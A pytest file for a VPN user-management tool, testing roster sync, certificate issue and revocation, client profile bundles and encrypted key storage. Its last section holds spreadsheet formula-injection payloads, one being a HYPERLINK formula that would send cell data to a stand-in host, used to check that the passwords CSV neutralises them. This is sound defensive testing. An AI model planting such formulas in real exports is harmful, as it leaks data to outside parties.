"""svpn.access.users and `svpn users sync` / `svpn profiles build` / `svpn users bench`, on a temporary
PKI."""

from __future__ import annotations

import csv
import json
import os
import pickle
import plistlib
import shutil
import stat
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import OLD_PASSPHRASE, clear_keys_under, make_older_pki
from cryptography import x509
from cryptography.hazmat.primitives.serialization import pkcs12
from svpn_testing.pki import PASS, make_ca

from svpn.access import bench as bench_users
from svpn.access import bundle_records, sync_workers, users
from svpn.access.pki import cert_index, keystore
from svpn.access.pki.ca import load_ca
from svpn.access.pki.cert_index import Index
from svpn.access.pki.pkidir import PkiDir
from svpn.access.pki.user_keys import read_user_key
from svpn.access.pki.validation import ID_RULE
from svpn.core import files as fsutil
from svpn.core.errors import SvpnError
from svpn.farm import proposals

ALL_YML = """\
svpn_pki_dir: "{{ playbook_dir }}/../.lab/pki"
svpn_vpn_name: vpn.svpn.test
svpn_public_address: 198.18.1.10
svpn_tunnel_mode: split
svpn_internal_networks: [198.18.2.0/24]
svpn_dns_servers: [198.18.2.53]
svpn_ike_proposals: [aes256gcm16-prfsha384-ecp384, aes128gcm16-prfsha256-ecp256]
svpn_esp_proposals: [aes256gcm16-ecp384, aes128gcm16-ecp256]
"""
OID_3DES_PBE = bytes.fromhex("060a2a864886f70d010c0103")
Run = Callable[..., tuple[int, str, str]]
Row = tuple[str, str, str, str]
STAFF: list[Row] = [
    ("jkim", "김지우", "jkim@city.example.kr", "IT"),
    ("mlee", "Lee Minho", "mlee@city.example.kr", "Roads"),
    ("spark", "Park Seo", "spark@city.example.kr", "Water"),
]


@dataclass
class Env:
    root: Path
    pki: Path
    inventory: Path
    bundles: Path
    passwords: Path

    def roster(self, rows: list[Row], name: str = "staff.csv") -> Path:
        path = self.root / name
        path.write_text(
            "id,name,email,department\n" + "".join(",".join(r) + "\n" for r in rows), encoding="utf-8"
        )
        return path

    def options(self, roster: Path, **extra: object) -> users.SyncOptions:
        values: dict[str, object] = dict(
            pki_dir=PkiDir(self.pki),
            roster=roster,
            inventory=self.inventory,
            bundles=self.bundles,
            passwords=self.passwords,
        )
        values.update(extra)
        return users.SyncOptions(**values)  # type: ignore[arg-type]

    def sync(self, rows: list[Row], **extra: object) -> users.SyncResult:
        return users.sync(self.options(self.roster(rows), **extra), lambda: PASS)

    def sync_argv(self, roster: Path, *extra: str) -> list[str | Path]:
        """`svpn users sync` with this environment's PKI, bundles and inventory."""
        return ["users", "sync", "--roster", roster, "--dir", self.pki, "--bundles", self.bundles,
                "--inventory", self.inventory, *extra]  # fmt: skip

    def passwords_by_id(self) -> dict[str, dict[str, str]]:
        with self.passwords.open(encoding="utf-8", newline="") as handle:
            return {row["id"]: row for row in csv.DictReader(handle)}

    def index(self) -> Index:
        return Index.load(PkiDir(self.pki))

    def current(self, uid: str) -> dict:
        record = self.index().current("user", uid)
        assert record is not None
        return record


@pytest.fixture
def env(tmp_path: Path) -> Env:
    make_ca(tmp_path / "pki")
    inventory = tmp_path / "inventory"
    (inventory / "group_vars").mkdir(parents=True)
    (inventory / "group_vars" / "all.yml").write_text(ALL_YML)
    (inventory / "hosts.yml").write_text("all: {}\n")  # a farm's hosts: none needed for bundles
    return Env(
        tmp_path,
        tmp_path / "pki",
        inventory,
        tmp_path / "out" / "bundles",
        tmp_path / "out" / "passwords.csv",
    )


@pytest.fixture
def run(monkeypatch: pytest.MonkeyPatch, cli: Run) -> Run:
    """``svpn.cli.main(argv)`` with the CA passphrase in the environment: (exit code, out, err)."""
    monkeypatch.setenv("SVPN_CA_PASSPHRASE", PASS)
    return cli


def snapshot(*roots: Path) -> dict[str, tuple[int, int, bytes]]:
    """Every path under *roots*: (mode, mtime in ns, bytes for files)."""
    result = {}
    for root in roots:
        if root.is_file():
            paths = [root]
        elif root.exists():
            paths = [root, *sorted(root.rglob("*"))]
        else:
            paths = []
        for path in paths:
            st = path.stat()
            result[str(path)] = (st.st_mode, st.st_mtime_ns, path.read_bytes() if path.is_file() else b"")
    return result


def p12_of(env: Env, uid: str) -> bytes:
    return (env.bundles / uid / f"{uid}.p12").read_bytes()


# --------------------------------------------------------------------------- first sync


def test_first_sync_issues_certificates_and_builds_private_bundles(env: Env) -> None:
    crl_before = snapshot(env.pki / "crl.pem"), env.index().crl_number
    result = env.sync(STAFF)
    assert result.summary() == {
        "add": 3,
        "renew": 0,
        "update": 0,
        "revoke": 0,
        "unchanged": 0,
        "bundles_built": 3,
        "bundles_removed": 0,
    }
    passwords = env.passwords_by_id()
    assert set(passwords) == {"jkim", "mlee", "spark"}
    assert stat.S_IMODE(env.passwords.stat().st_mode) == 0o600
    for uid, name, email, department in STAFF:
        record = env.current(uid)
        assert (record["status"], record["email"], record["full_name"], record["department"]) == (
            "valid",
            email,
            name,
            department,
        )
        row = passwords[uid]
        assert (row["name"], row["email"], row["serial"]) == (name, email, record["serial"])
        key, cert, extra = pkcs12.load_key_and_certificates(p12_of(env, uid), row["password"].encode())
        assert cert is not None and f"{cert.serial_number:x}" == record["serial"]
        assert key is not None and extra == [
            x509.load_pem_x509_certificate((env.pki / "ca/ca.crt").read_bytes())
        ]
        folder = env.bundles / uid
        everything = b""
        for path in [folder, *folder.rglob("*")]:
            mode = stat.S_IMODE(path.stat().st_mode)
            assert mode == (0o700 if path.is_dir() else 0o600), path
            everything += path.read_bytes() if path.is_file() else b""
        assert row["password"].encode() not in everything  # the password is kept apart
    assert stat.S_IMODE(env.bundles.stat().st_mode) == 0o700
    crl_after = snapshot(env.pki / "crl.pem"), env.index().crl_number
    assert crl_after == crl_before  # nothing revoked: the CRL is as it was


def test_bundle_profiles_carry_the_mapped_proposals(env: Env) -> None:
    env.sync(STAFF[:1])
    client = proposals.for_clients(
        ["aes256gcm16-prfsha384-ecp384", "aes128gcm16-prfsha256-ecp256"],
        ["aes256gcm16-ecp384", "aes128gcm16-ecp256"],
    )
    folder = env.bundles / "jkim"
    apple = plistlib.loads((folder / "jkim.mobileconfig").read_bytes())
    ikev2 = apple["PayloadContent"][2]["IKEv2"]
    assert ikev2["IKESecurityAssociationParameters"] == client.apple_ike
    assert ikev2["ChildSecurityAssociationParameters"] == client.apple_child
    assert apple["PayloadContent"][1]["PayloadContent"] == p12_of(env, "jkim")
    android = json.loads((folder / "jkim.sswan").read_text())
    assert (android["ike-proposal"], android["esp-proposal"]) == (client.android_ike, client.android_esp)
    ps1 = (folder / "jkim-windows.ps1").read_text(encoding="utf-8-sig")
    assert all(f"-{k} {v}" in ps1 for k, v in client.windows.items())
    assert f"ike={client.networkmanager_ike}" in (folder / "jkim.nmconnection").read_text()
    assert f"proposals = {client.swanctl_ike}" in (folder / "swanctl.conf").read_text()
    assert sorted(p.name for p in (folder / "guides").iterdir()) == [
        f"{o}.{fmt}" for o in ("android", "ios", "linux", "macos", "windows") for fmt in ("html", "md")
    ]


def test_second_sync_with_the_same_roster_is_a_no_op(env: Env) -> None:
    env.sync(STAFF)
    before = snapshot(env.pki, env.bundles, env.passwords)
    serials = [r["serial"] for r in env.index().certs]
    result = env.sync(STAFF)
    assert result.summary()["unchanged"] == 3 and result.bundle_changes == []
    assert result.lines() == [
        "0 added, 0 renewed, 0 updated, 0 revoked, 3 unchanged; 0 bundles built, 0 removed"
    ]
    assert snapshot(env.pki, env.bundles, env.passwords) == before  # no file rewritten, not even touched
    assert [r["serial"] for r in env.index().certs] == serials


def test_after_a_ca_rollover_a_sync_renews_every_user_under_the_new_ca_once(env: Env) -> None:
    from svpn.access.pki.rollover import start_rollover

    env.sync(STAFF)
    start_rollover(env.pki, load_ca(env.pki, PASS), "Test VPN CA 2", PASS)
    result = env.sync(STAFF)
    assert {c.id: (c.action, c.reason) for c in result.changes} == {
        uid: ("renew", "issued by the previous CA 'Test VPN CA'") for uid, *_rest in STAFF
    }
    new_ca = x509.load_pem_x509_certificate((env.pki / "ca" / "ca.crt").read_bytes())
    for uid, *_rest in STAFF:
        bundle = env.bundles / uid
        assert x509.load_pem_x509_certificate((bundle / f"{uid}.crt").read_bytes()).issuer == new_ca.subject
        assert (bundle / "ca.crt").read_bytes() == (env.pki / "ca" / "ca.crt").read_bytes()
    assert env.sync(STAFF).summary()["unchanged"] == len(STAFF)  # once: then they are the new CA's


# --------------------------------------------------------------------------- the diff applied


def test_sync_adds_renews_updates_revokes_and_leaves_the_rest(env: Env) -> None:
    env.sync(
        [
            *STAFF,
            ("gone1", "Gone One", "gone1@city.example.kr", "IT"),
            ("gone2", "Gone 2", "g2@x.example", "IT"),
        ]
    )
    old = {uid: env.current(uid)["serial"] for uid in ("jkim", "mlee", "spark", "gone1", "gone2")}
    old_passwords = env.passwords_by_id()
    old_p12 = {uid: p12_of(env, uid) for uid in ("jkim", "mlee")}
    untouched = snapshot(env.bundles / "spark")
    crl_number = env.index().crl_number

    result = env.sync(
        [
            ("jkim", "김지우", "jiwoo.kim@city.example.kr", "IT"),  # e-mail changed: renew
            ("mlee", "Lee Min-ho", "mlee@city.example.kr", "Roads"),  # name changed: update
            STAFF[2],  # unchanged
            ("newbie", "New Person", "newbie@city.example.kr", "IT"),  # add
        ]
    )
    actions = {c.id: c.action for c in result.changes}
    assert actions == {
        "jkim": "renew",
        "mlee": "update",
        "spark": "unchanged",
        "newbie": "add",
        "gone1": "revoke",
        "gone2": "revoke",
    }
    assert result.crl_written
    index = env.index()
    assert index.crl_number == crl_number + 1  # one CRL for both revocations
    crl = x509.load_pem_x509_crl((env.pki / "crl.pem").read_bytes())
    assert {f"{r.serial_number:x}" for r in crl} == {old["gone1"], old["gone2"]}
    for uid in ("gone1", "gone2"):
        assert env.current(uid)["status"] == "revoked"
        assert not (env.bundles / uid).exists()
    passwords = env.passwords_by_id()
    assert set(passwords) == {"jkim", "mlee", "spark", "newbie"}

    jkim = env.current("jkim")
    assert jkim["serial"] != old["jkim"] and jkim["email"] == "jiwoo.kim@city.example.kr"
    assert [r["status"] for r in index.certs if r["name"] == "jkim"] == ["superseded", "valid"]
    assert passwords["jkim"]["password"] != old_passwords["jkim"]["password"]  # new PKCS#12, new password
    assert p12_of(env, "jkim") != old_p12["jkim"]

    mlee = env.current("mlee")
    assert mlee["serial"] == old["mlee"] and mlee["full_name"] == "Lee Min-ho"
    assert passwords["mlee"]["password"] == old_passwords["mlee"]["password"]  # same PKCS#12, same password
    assert passwords["mlee"]["name"] == "Lee Min-ho"
    assert p12_of(env, "mlee") == old_p12["mlee"]
    assert "Lee Min-ho" in (env.bundles / "mlee" / "guides" / "ios.md").read_text()

    assert snapshot(env.bundles / "spark") == untouched
    assert env.current("spark")["serial"] == old["spark"]
    assert [line for line in result.lines() if line.startswith("revoke")] == [
        "revoke: gone1: no longer in the roster",
        "revoke: gone2: no longer in the roster",
    ]


def test_renewal_window(env: Env) -> None:
    env.sync(STAFF[:1], days=20)
    serial = env.current("jkim")["serial"]
    assert env.sync(STAFF[:1], renew_within_days=10).summary()["unchanged"] == 1
    result = env.sync(STAFF[:1], renew_within_days=30)
    assert [(c.action, c.reason[:8]) for c in result.changes] == [("renew", "expires ")]
    assert env.current("jkim")["serial"] != serial


def test_a_settings_change_rebuilds_profiles_but_keeps_the_pkcs12_and_password(env: Env) -> None:
    env.sync(STAFF)
    passwords = env.passwords.read_bytes()
    p12 = p12_of(env, "jkim")
    config = (env.bundles / "jkim" / "jkim.mobileconfig").read_bytes()
    all_yml = env.inventory / "group_vars" / "all.yml"
    all_yml.write_text(ALL_YML.replace("[aes256gcm16-ecp384, aes128gcm16-ecp256]", "[aes128gcm16-ecp256]"))
    result = env.sync(STAFF)
    assert [b.action for b in result.bundle_changes] == ["build"] * 3
    assert result.summary()["unchanged"] == 3
    assert env.passwords.read_bytes() == passwords and p12_of(env, "jkim") == p12
    new_config = (env.bundles / "jkim" / "jkim.mobileconfig").read_bytes()
    assert new_config != config
    child = plistlib.loads(new_config)["PayloadContent"][2]["IKEv2"]["ChildSecurityAssociationParameters"]
    assert child["EncryptionAlgorithm"] == "AES-128-GCM"


def test_legacy_pkcs12_switch_rebuilds_with_new_passwords(env: Env) -> None:
    env.sync(STAFF[:1])
    before = env.passwords_by_id()["jkim"]["password"]
    result = env.sync(STAFF[:1], legacy_p12=True)
    assert [(b.id, b.reason) for b in result.bundle_changes] == [
        ("jkim", "PKCS#12 encryption changed (--legacy-p12)")
    ]
    after = env.passwords_by_id()["jkim"]["password"]
    assert after != before
    data = p12_of(env, "jkim")
    assert OID_3DES_PBE in data
    assert pkcs12.load_key_and_certificates(data, after.encode())[1] is not None


def test_bundles_of_users_revoked_without_bundles_are_removed_later(env: Env) -> None:
    env.sync(STAFF)
    result = env.sync(STAFF[:2], bundles=None)  # spark revoked by a run that does not manage bundles
    assert [c.action for c in result.changes] == ["unchanged", "unchanged", "revoke"]
    assert (env.bundles / "spark").exists()
    result = env.sync(STAFF[:2])
    assert [(b.id, b.action, b.reason) for b in result.bundle_changes] == [
        ("spark", "remove", "not in the roster")
    ]
    assert not (env.bundles / "spark").exists() and "spark" not in env.passwords_by_id()
    assert result.summary()["revoke"] == 0  # already revoked: no second CRL


def test_a_deleted_bundle_is_rebuilt(env: Env) -> None:
    env.sync(STAFF)
    import shutil

    shutil.rmtree(env.bundles / "mlee")
    result = env.sync(STAFF)
    assert [(b.id, b.action) for b in result.bundle_changes] == [("mlee", "build")]
    assert (env.bundles / "mlee" / "mlee.p12").exists()


def test_the_process_pool_path(env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sync_workers, "INLINE_BELOW", 2)
    monkeypatch.setattr(sync_workers, "CHUNK", 2)
    rows = [(f"u{n}", f"User {n}", f"u{n}@city.example.kr", "IT") for n in range(7)]
    result = env.sync(rows, workers=2)
    assert result.summary()["add"] == 7 and result.summary()["bundles_built"] == 7
    serials = {env.current(uid)["serial"] for uid, *_ in rows}
    assert len(serials) == 7
    assert sorted(p.name for p in env.bundles.iterdir()) == [
        ".svpn-bundles.json",
        *sorted(r[0] for r in rows),
    ]
    row = env.passwords_by_id()["u6"]
    assert pkcs12.load_key_and_certificates(p12_of(env, "u6"), row["password"].encode())[1] is not None


def test_bulk_writes_skip_fsync_and_sync_once_before_anything_records_them(
    env: Env, monkeypatch: pytest.MonkeyPatch
) -> None:
    events: list[str] = []
    real_fsync, real_atomic = os.fsync, fsutil.atomic_write
    monkeypatch.setattr("os.fsync", lambda fd: (events.append("fsync"), real_fsync(fd))[1])
    monkeypatch.setattr("os.sync", lambda: events.append("sync"))

    def recording_atomic(path: Path, *args: object, **kwargs: object) -> None:
        real_atomic(path, *args, **kwargs)  # type: ignore[arg-type]
        if Path(path).name in ("index.json", "passwords.csv", ".svpn-bundles.json"):
            events.append(Path(path).name)

    monkeypatch.setattr(fsutil, "atomic_write", recording_atomic)
    monkeypatch.setattr(cert_index, "atomic_write", recording_atomic)
    monkeypatch.setattr(bundle_records, "atomic_write", recording_atomic)
    env.sync(STAFF)
    assert events.count("sync") == 1
    first_record = min(events.index(n) for n in ("index.json", "passwords.csv", ".svpn-bundles.json"))
    assert events.index("sync") < first_record
    # the records themselves stay durable; the keys, certificates and bundles were not fsynced one by one
    assert events[: events.index("sync")] == []


# --------------------------------------------------------------------------- keys at rest


def test_no_user_key_lies_in_clear_and_a_run_derives_the_kek_once(
    env: Env, monkeypatch: pytest.MonkeyPatch
) -> None:
    derived: list[int] = []
    real_derive = keystore.ScryptParams.derive

    def counting(self: keystore.ScryptParams, *args: object, **kwargs: object) -> bytes:
        derived.append(self.n)
        return real_derive(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(keystore.ScryptParams, "derive", counting)
    env.sync(STAFF)
    assert derived == [keystore.CA_KDF.n]  # the KEK, once for every user (the CA key: cryptography's loader)
    assert clear_keys_under(env.pki) == []
    assert sorted(p.name for p in (env.pki / "users").glob("*.key*")) == [
        "jkim.key.enc",
        "mlee.key.enc",
        "spark.key.enc",
    ]
    ca = load_ca(env.pki, PASS)
    args = sync_workers.worker_args(PkiDir(env.pki), ca, ca.user_kek())
    assert ca.user_kek() in args and PASS.encode() not in pickle.dumps(args)  # the KEK, not the passphrase


def test_the_worker_processes_seal_and_open_keys_with_the_kek(
    env: Env, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sync_workers, "INLINE_BELOW", 2)
    monkeypatch.setattr(sync_workers, "CHUNK", 2)
    rows = [(f"u{n}", f"User {n}", f"u{n}@city.example.kr", "IT") for n in range(5)]
    env.sync(rows, workers=2)
    shutil.rmtree(env.bundles / "u1")
    shutil.rmtree(env.bundles / "u3")
    result = env.sync(rows, workers=2)  # new PKCS#12 files: the workers open the sealed keys
    assert sorted(b.id for b in result.bundle_changes) == ["u1", "u3"]
    assert clear_keys_under(env.pki) == []
    kek = load_ca(env.pki, PASS).user_kek()
    for uid in ("u1", "u3"):
        password = env.passwords_by_id()[uid]["password"].encode()
        key, _cert, _more = pkcs12.load_key_and_certificates(p12_of(env, uid), password)
        assert key is not None and key.public_key() == read_user_key(env.pki, kek, uid).public_key()


def test_an_older_pki_keeps_working_and_its_clear_keys_are_sealed_on_the_next_write(
    env: Env, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    env.sync(STAFF)
    make_older_pki(env.pki, PASS)
    assert len(clear_keys_under(env.pki)) == 3
    monkeypatch.setenv("SVPN_CA_PASSPHRASE", OLD_PASSPHRASE)
    shutil.rmtree(env.bundles / "mlee")
    code, out, err = run(*env.sync_argv(env.roster(STAFF), "--passwords", str(env.passwords)))
    assert (code, err) == (0, ""), err
    assert "1 bundles built" in out
    assert clear_keys_under(env.pki) == []
    assert keystore.kdf_info((env.pki / "ca" / "ca.key").read_bytes()).current()
    kek = load_ca(env.pki, OLD_PASSPHRASE).user_kek()
    password = env.passwords_by_id()["mlee"]["password"].encode()
    key, _cert, _more = pkcs12.load_key_and_certificates(p12_of(env, "mlee"), password)
    assert key is not None and key.public_key() == read_user_key(env.pki, kek, "mlee").public_key()


def test_profiles_build_works_on_an_older_pki_and_seals_its_keys(
    env: Env, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    env.sync(STAFF)
    make_older_pki(env.pki, PASS)
    monkeypatch.setenv("SVPN_CA_PASSPHRASE", OLD_PASSPHRASE)
    code, out, err = run("profiles", "build", "jkim", "--bundles", env.bundles, "--passwords", env.passwords,
                         "--dir", env.pki, "--inventory", env.inventory)  # fmt: skip
    assert (code, err) == (0, "")
    assert out.strip() == f"built: {env.bundles / 'jkim'} (password in {env.passwords})"
    assert clear_keys_under(env.pki) == []
    assert (env.pki / "ca" / "kek.json").exists()


# --------------------------------------------------------------------------- refusals


def test_malformed_roster_lists_every_problem_and_changes_nothing(env: Env, run: Run) -> None:
    env.sync(STAFF)
    before = snapshot(env.pki, env.bundles, env.passwords)
    bad = env.roster(
        [
            STAFF[0],
            ("jkim", "Dup", "dup@city.example.kr", "IT"),
            ("newbie", "New", "not-an-email", "IT"),
            ("Bad!", "X", "x@city.example.kr", "IT"),
        ],
        "bad.csv",
    )
    code, out, err = run(*env.sync_argv(bad, "--passwords", str(env.passwords)))
    assert code == 2 and out == ""
    assert "Traceback" not in err
    lines = err.strip().splitlines()
    assert lines[0] == f"svpn: error: roster {bad} has 3 problems; nothing was issued or revoked"
    assert lines[1:] == [
        f"{bad}:3: id 'jkim' is listed twice (first on line 2)",
        f"{bad}:4: email 'not-an-email' is not a valid e-mail address: expected local@domain.tld "
        "(ASCII, domain a valid DNS name with a dot)",
        f"{bad}:5: id 'Bad!' is not valid: {ID_RULE}",
    ]
    assert snapshot(env.pki, env.bundles, env.passwords) == before  # no revocation of mlee/spark either


def test_missing_column_is_refused_before_anything_happens(env: Env, run: Run) -> None:
    path = env.root / "nocol.csv"
    path.write_text("id,name,email\njkim,Kim,jkim@city.example.kr\n")
    code, _out, err = run("users", "sync", "--roster", path, "--dir", env.pki)
    assert code == 2
    assert (
        err.strip().splitlines()[1] == f"{path}:1: missing column 'department': the header must name "
        "id, name, email, department (found: id, name, email)"
    )
    assert [r["kind"] for r in env.index().certs] == ["ca"]


def test_a_revoked_id_back_in_the_roster_is_refused_and_nothing_is_issued(env: Env) -> None:
    env.sync(STAFF)
    env.sync(STAFF[:2])  # spark revoked
    before = snapshot(env.pki, env.bundles, env.passwords)
    with pytest.raises(SvpnError) as err:
        env.sync([*STAFF, ("newbie", "New", "newbie@city.example.kr", "IT")])
    assert ":4: id 'spark' was revoked on" in str(err.value)
    assert snapshot(env.pki, env.bundles, env.passwords) == before


def test_dry_run_prints_the_diff_writes_nothing_and_needs_no_passphrase(
    env: Env, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    env.sync(STAFF[:2])
    before = snapshot(env.root)
    monkeypatch.delenv("SVPN_CA_PASSPHRASE", raising=False)
    roster_path = env.roster([STAFF[0], STAFF[2]], "next.csv")
    before = snapshot(env.root)
    code, out, err = run(
        *env.sync_argv(roster_path, "--passwords", str(env.passwords), "--dry-run", "--json")
    )
    assert (code, err) == (0, "")
    data = json.loads(out)
    assert data["dry_run"] is True
    assert {(c["id"], c["action"]) for c in data["changes"]} == {("spark", "add"), ("mlee", "revoke")}
    assert data["summary"]["unchanged"] == 1 and data["summary"]["bundles_removed"] == 1
    assert snapshot(env.root) == before


def test_wrong_passphrase_is_one_line_and_writes_nothing(
    env: Env, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    roster_path = env.roster(STAFF)
    before = snapshot(env.root)
    monkeypatch.setenv("SVPN_CA_PASSPHRASE", "not the passphrase")
    code, out, err = run(*env.sync_argv(roster_path))
    assert code == 2 and out == ""
    assert err.strip().splitlines() == [
        f"svpn: error: CA passphrase is wrong for {env.pki / 'ca' / 'ca.key'}"
    ]
    assert snapshot(env.root) == before


def test_a_second_writing_run_on_the_same_pki_is_refused(env: Env) -> None:
    with users.exclusive(PkiDir(env.pki)):
        with pytest.raises(SvpnError, match="another `svpn users sync` or `svpn profiles build` is running"):
            env.sync(STAFF)
        assert env.sync(STAFF, dry_run=True).summary()["add"] == 3  # reading needs no lock
    assert env.sync(STAFF).summary()["add"] == 3


def test_passwords_file_inside_the_bundles_is_refused(env: Env) -> None:
    with pytest.raises(SvpnError, match="must not be inside the bundle directory"):
        env.sync(STAFF, passwords=env.bundles / "passwords.csv")


# --------------------------------------------------------------------------- CLI


def test_cli_sync_prints_the_diff_and_json(env: Env, run: Run) -> None:
    roster_path = env.roster(STAFF)
    code, out, err = run(*env.sync_argv(roster_path))
    assert (code, err) == (0, "")
    assert out.splitlines() == [
        "add: jkim (김지우 <jkim@city.example.kr>): new user",
        "add: mlee (Lee Minho <mlee@city.example.kr>): new user",
        "add: spark (Park Seo <spark@city.example.kr>): new user",
        "3 added, 0 renewed, 0 updated, 0 revoked, 0 unchanged; 3 bundles built, 0 removed",
    ]
    assert (env.bundles.parent / "passwords.csv").exists()  # the default: beside the bundle directory
    code, out, _err = run("users", "sync", "--roster", roster_path, "--dir", env.pki, "--json")
    assert code == 0 and json.loads(out)["summary"]["unchanged"] == 3


def test_profiles_build_makes_a_new_bundle_with_a_new_password(env: Env, run: Run, monkeypatch) -> None:
    env.sync(STAFF[:1])
    old = env.passwords_by_id()["jkim"]["password"]
    argv = ["profiles", "build", "jkim", "--bundles", env.bundles, "--passwords", env.passwords,
            "--dir", env.pki, "--inventory", env.inventory]  # fmt: skip
    before = snapshot(env.root)
    monkeypatch.delenv("SVPN_CA_PASSPHRASE", raising=False)  # the user's key is sealed: it is needed
    code, out, err = run(*argv)
    assert (code, out) == (2, "")
    assert err.strip() == (
        "svpn: error: CA passphrase is missing: set SVPN_CA_PASSPHRASE or pass --passphrase-file FILE"
    )
    monkeypatch.setenv("SVPN_CA_PASSPHRASE", "not the passphrase")
    code, out, err = run(*argv)
    assert (code, out, err.strip()) == (
        2,
        "",
        f"svpn: error: CA passphrase is wrong for {env.pki / 'ca' / 'kek.json'}",
    )
    assert snapshot(env.root) == before
    monkeypatch.setenv("SVPN_CA_PASSPHRASE", PASS)
    code, out, err = run(*argv)
    assert (code, err) == (0, "")
    assert out.strip() == f"built: {env.bundles / 'jkim'} (password in {env.passwords})"
    new = env.passwords_by_id()["jkim"]["password"]
    assert new != old
    assert pkcs12.load_key_and_certificates(p12_of(env, "jkim"), new.encode())[1] is not None
    assert env.sync(STAFF[:1]).bundle_changes == []  # the state knows about the rebuilt bundle
    code, _out, err = run(
        "profiles",
        "build",
        "nobody",
        "--bundles",
        env.bundles,
        "--dir",
        env.pki,
        "--inventory",
        env.inventory,
    )
    assert (
        code == 2
        and err.strip()
        == f"svpn: error: ID 'nobody' is unknown: no user certificate in {env.pki / 'index.json'}"
    )


def test_bench_reports_times_and_the_pki_ratio(env: Env, run: Run) -> None:
    code, out, err = run(
        "users", "bench", "--users", "3", "--sample", "1", "--inventory", env.inventory, "--json"
    )
    assert (code, err) == (0, "")
    data = json.loads(out)
    assert data["users"] == 3 and data["bundles_s"] > 0 and data["noop_s"] > 0 and data["certs_only_s"] > 0
    if data["pki_binary"]:
        assert data["pki_sample_s"] > 0 and data["ratio_bundles"] > 0
    result = bench_users.BenchResult(**{k: data[k] for k in bench_users.BenchResult.__dataclass_fields__})
    table = result.table()
    assert table[0].split()[:2] == ["run", "users"] and "svpn users sync --bundles" in table[2]


def test_bench_without_pki_says_so(env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bench_users, "PKI_BINARY", "no-such-pki-binary")
    result = bench_users.run(users=2, sample=1, inventory=env.inventory)
    assert result.pki_sample_s is None and result.ratio(result.bundles_s) is None
    assert any("not installed" in line for line in result.table())


# --------------------------------------------------------------------------- shared identities


def test_an_email_another_listed_id_still_holds_is_refused_and_nothing_changes(env: Env) -> None:
    env.sync(STAFF)
    before = snapshot(env.pki, env.bundles, env.passwords)
    # jkim is re-added as jkim2 with the old address while jkim stays (with a new one): jkim's
    # certificate still carries the old address, so it is refused
    moved = [("jkim", "김지우", "jkim.old@city.example.kr", "IT"), *STAFF[1:]]
    with pytest.raises(SvpnError) as err:
        env.sync([*moved, ("jkim2", "Kim Jiwoo", "JKim@city.example.kr", "IT")])
    assert (
        f"{env.root / 'staff.csv'}:5: email 'JKim@city.example.kr' (id 'jkim2') belongs to id 'jkim'"
        in str(err.value)
    )
    assert "which line 2 keeps (as 'jkim.old@city.example.kr')" in str(err.value)
    assert snapshot(env.pki, env.bundles, env.passwords) == before
    # the same address is free once the old ID leaves the roster: this very sync revokes it
    result = env.sync([*STAFF[1:], ("jkim2", "Kim Jiwoo", "JKim@city.example.kr", "IT")])
    assert {(c.id, c.action) for c in result.changes if c.action != "unchanged"} == {
        ("jkim2", "add"),
        ("jkim", "revoke"),
    }
    assert env.current("jkim")["status"] == "revoked" and env.current("jkim2")["status"] == "valid"


# --------------------------------------------------------------------------- passwords.csv in a spreadsheet


def runs_in_a_spreadsheet(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") or cell.lstrip()[:1] in ("=", "+", "-", "@")


NASTY: list[Row] = [
    ("u1", '=HYPERLINK("http://x.example/?"&A1,"Click")', "u1@city.example.kr", "IT"),
    ("u2", "+1 call me", "+u2@city.example.kr", "IT"),
    ("u3", "-2+3", "-u3@city.example.kr", "IT"),
    ("u4", "@SUM(A1:A9)", "u4@city.example.kr", "IT"),
    ("u5", "'=already quoted", "=u5@city.example.kr", "IT"),
    ("u6", "'Ilima Kealoha", "u6@city.example.kr", "IT"),
    ("u7", "Park = Seo", "u7@city.example.kr", "IT"),
]


def test_passwords_csv_cells_a_spreadsheet_would_run_are_quoted_and_read_back(env: Env) -> None:
    path = env.root / "nasty.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([("id", "name", "email", "department"), *NASTY])
    users.sync(env.options(path), lambda: PASS)

    with env.passwords.open(encoding="utf-8", newline="") as handle:
        cells = list(csv.reader(handle))
    assert cells[0] == list(bundle_records.PASSWORD_COLUMNS)
    assert [cell for row in cells for cell in row if runs_in_a_spreadsheet(cell)] == []
    written = {row[0]: (row[1], row[2]) for row in cells[1:]}
    assert written == {
        "u1": ("'" + NASTY[0][1], "u1@city.example.kr"),
        "u2": ("'+1 call me", "'+u2@city.example.kr"),
        "u3": ("'-2+3", "'-u3@city.example.kr"),
        "u4": ("'@SUM(A1:A9)", "u4@city.example.kr"),
        "u5": ("''=already quoted", "'=u5@city.example.kr"),
        "u6": ("'Ilima Kealoha", "u6@city.example.kr"),  # harmless: as it is
        "u7": ("Park = Seo", "u7@city.example.kr"),
    }
    loaded = bundle_records.PasswordFile.load(env.passwords).rows
    assert {uid: (row["name"], row["email"]) for uid, row in loaded.items()} == {
        r[0]: (r[1], r[2]) for r in NASTY
    }

    before = snapshot(env.pki, env.bundles, env.passwords)
    assert users.sync(env.options(path), lambda: PASS).summary()["unchanged"] == len(NASTY)
    assert snapshot(env.pki, env.bundles, env.passwords) == before  # read back exactly: nothing rewritten


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@x", "\t=1", "\t", "\nx", " =1", "\u3000@x", "  -", "'=1", "''+1", "'",
     "''", "'Ilima", "a=b", "", "plain", "1-2", "'\t"],
)  # fmt: skip
def test_every_cell_round_trips_through_a_real_csv_file(tmp_path: Path, value: str) -> None:
    path = tmp_path / "passwords.csv"
    out = bundle_records.PasswordFile(path)
    row = dict.fromkeys(bundle_records.PASSWORD_COLUMNS, value)
    out.set({**row, "id": "u1"})
    out.save()
    with path.open(encoding="utf-8", newline="") as handle:
        cells = list(csv.reader(handle))[1]
    assert not any(runs_in_a_spreadsheet(cell) for cell in cells), cells
    assert cells[1] == ("'" + value if runs_in_a_spreadsheet(value.lstrip("'")) else value)
